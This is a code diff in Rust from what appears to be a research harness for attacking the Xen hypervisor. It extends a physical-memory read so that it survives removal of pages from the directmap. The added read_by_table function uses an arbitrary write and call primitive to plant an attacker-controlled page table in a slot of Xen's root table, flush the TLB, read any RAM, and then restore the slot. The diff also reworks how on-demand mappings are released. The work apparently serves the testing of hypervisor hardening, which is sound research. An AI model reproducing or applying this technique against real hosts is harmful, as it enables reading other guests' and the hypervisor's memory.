@@ -14,6 +14,9 @@ use crate::tables;
 use crate::vectors::Outcome;
 use crate::victim::{Domain, Victim};
 
+/// A slot of Xen's root table, 512 GiB, that Xen and the vectors leave alone.
+const READING_SLOT: u64 = 42;
+
 /// Before or after the blow.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Phase {
@@ -148,16 +151,19 @@ impl Lab {
     }
 
     /// Reads a word of RAM: through the directmap, or else through a mapping
-    /// that Xen makes on demand (L3).
+    /// that Xen makes on demand (L3). A page that has left the directmap, as at
+    /// level `unmap`, is read through a table of the attacker's own (L2).
     pub fn read_physical(&mut self, maddr: u64) -> Result<u64, Stop> {
         if self.directmap {
-            return self.read(self.directmap_va(maddr));
+            return self
+                .read(self.directmap_va(maddr))
+                .or_else(|_| self.read_by_table(maddr));
         }
         let frame = maddr / PAGE;
         let va = match self.borrowed.get(&frame) {
             Some(va) => *va,
             None => {
-                let map = self.symbols.find("map_domain_page").unwrap_or_default();
+                let map = self.symbols.find("vmf_map_slowly").unwrap_or_default();
                 let va = self.primitive.call(0, map, &[frame])?;
                 self.borrowed.insert(frame, va);
                 va
@@ -166,12 +172,32 @@ impl Lab {
         self.read(va + maddr % PAGE)
     }
 
+    /// The same where Xen's root table can be written, which the lock ends.
+    fn read_by_table(&self, maddr: u64) -> Result<u64, Stop> {
+        let symbol = |name: &str| self.symbols.find(name).unwrap_or_default();
+        let (root, flush) = (symbol("xen_pgtable"), symbol("vmf_c_flush_all"));
+        let at = root + 8 * READING_SLOT;
+        self.primitive
+            .store(0, at, tables::table(self.all_ram.address))?;
+        self.primitive.call(0, flush, &[])?;
+        let word = self.read((READING_SLOT << 39) + maddr);
+        self.primitive.store(0, at, 0)?;
+        self.primitive.call(0, flush, &[])?;
+        word
+    }
+
     /// Ends the mappings that reading has made.
     pub fn give_back(&mut self) -> Result<(), Failure> {
-        let unmap = self.symbols.symbol("unmap_domain_page")?;
-        for (_, va) in self.borrowed.drain() {
-            self.primitive.call(0, unmap, &[va])?;
-        }
+        let borrowed: Vec<u64> = self.borrowed.drain().map(|(_, va)| va).collect();
+        borrowed.into_iter().try_for_each(|va| self.unmap(va))
+    }
+
+    /// Ends a mapping that CPU 0 has made on demand; one in the directmap has no
+    /// end.
+    pub fn unmap(&self, va: u64) -> Result<(), Failure> {
+        let unmap = self.symbols.symbol("vmf_window_unmap")?;
+        let window = self.read(self.symbols.symbol("vmf_windows")?)?;
+        self.primitive.call(0, unmap, &[window, va])?;
         Ok(())
     }
 
